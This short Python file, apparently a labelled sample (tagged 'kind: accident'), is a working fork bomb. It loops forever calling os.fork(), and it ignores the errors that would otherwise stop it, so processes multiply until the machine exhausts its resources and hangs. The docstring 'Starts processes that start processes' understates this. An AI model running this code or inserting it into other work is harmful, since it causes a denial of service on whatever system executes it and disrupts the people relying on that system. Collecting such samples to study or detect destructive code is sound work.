"""Starts processes that start processes."""

# on: q8
# kind: accident
# ruff: noqa: SIM105

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
